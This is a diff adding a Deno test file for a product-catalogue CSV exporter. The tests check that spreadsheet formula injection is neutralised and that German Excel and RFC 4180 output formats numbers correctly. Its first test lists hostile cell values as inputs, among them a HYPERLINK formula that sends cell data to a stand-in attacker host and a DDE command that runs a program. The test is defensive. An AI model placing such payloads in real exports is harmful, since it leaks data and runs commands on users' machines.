@@ -1,0 +1,66 @@
+import { deepStrictEqual as assertEquals, ok } from "node:assert/strict";
+import { csvHead, csvRows, harmless } from "../../src/catalogue/product_csv.ts";
+import { blankProduct, type Product } from "../../src/catalogue/product.ts";
+
+const product: Product = {
+  ...blankProduct({
+    id: "0".repeat(24),
+    sku: "00123",
+    title: 'Kühl; "Schrank"',
+    currency: "EUR",
+    createdAt: "2026-08-01T09:00:00.000Z",
+  }),
+  ourPriceCents: 123_456,
+  vatRatePct: 7.5,
+  ean: "4006381333931",
+};
+
+Deno.test("harmless() puts an apostrophe before what a spreadsheet would run, and only there", () => {
+  const run = [
+    '=HYPERLINK("http://evil.test/"&A1,"x")',
+    "+49 30 123456",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\rx",
+    "\nx",
+    "  =1",
+    "\u00a0=1",
+    "\u200b=1",
+    "\ufeff=1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠1",
+  ];
+  for (const text of run) assertEquals(harmless(text), `'${text}`);
+  for (const text of ["", "a=1", "Gerät", "00123", "1-2", "'=1", 'a","b\r\n=1']) {
+    assertEquals(harmless(text), text);
+  }
+});
+
+Deno.test("csvRows() writes a German Excel file with decimal comma", () => {
+  const head = csvHead("excel");
+  ok(head.startsWith('\uFEFF"id";"sku";"title"') && head.endsWith("\r\n"));
+  const row = csvRows([product], "excel");
+  ok(row.includes('"00123";"Kühl; ""Schrank""";'), row);
+  ok(row.includes('"1234,56";') && row.includes('"7,5"') && row.includes('"4006381333931"'), row);
+});
+
+Deno.test("csvRows() writes RFC 4180 with dots and commas", () => {
+  ok(csvHead("rfc4180").startsWith('"id","sku"'));
+  const row = csvRows([product], "rfc4180");
+  ok(row.includes('"1234.56",') && row.includes('"7.5"') && row.endsWith("\r\n"), row);
+});
+
+Deno.test("csvRows() writes minor units by the currency", () => {
+  const yen = { ...product, currency: "JPY", ourPriceCents: 500 };
+  const dinar = { ...product, currency: "KWD", ourPriceCents: 1_234 };
+  ok(csvRows([yen], "excel").includes('"500"'));
+  ok(csvRows([dinar], "excel").includes('"1,234"'));
+});
+
+Deno.test("csvRows() makes every text column harmless and no number", () => {
+  const row = csvRows([{ ...product, sku: "=1+1", brand: "@x", ourPriceCents: 5 }], "rfc4180");
+  ok(row.includes(`"'=1+1"`) && row.includes(`"'@x"`) && row.includes('"0.05"'), row);
+});
